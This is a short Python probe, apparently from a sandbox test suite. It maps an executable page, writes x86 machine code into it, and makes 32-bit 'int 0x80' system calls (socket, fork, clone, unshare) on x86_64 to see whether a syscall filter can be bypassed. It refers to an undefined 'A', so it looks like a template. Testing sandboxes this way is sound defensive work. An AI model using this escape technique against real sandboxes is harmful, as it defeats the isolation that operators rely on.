# tries: calls by the gate of 32-bit programs, where numbers mean other calls, on pages that it makes executable
# success: a socket is made past the filter
# seen by: the output
import ctypes, mmap, os

if os.uname().machine == "x86_64":
    code = bytes.fromhex("53" "89f8" "89f3" "89d1" "31d2" "cd80" "5b" "c3")
    page = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    call = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    for number, first, second in ((359, 1, 1), (359, 2, 1), (2, 0, 0), (120, 17, 0), (27, 1, 0), (310, 0x10000000, 0)):
        got = call(number, first, second)
        if number == 2 and got == 0:
            os._exit(0)
        if got >= 0:
            print("did-" + A["id"], number)
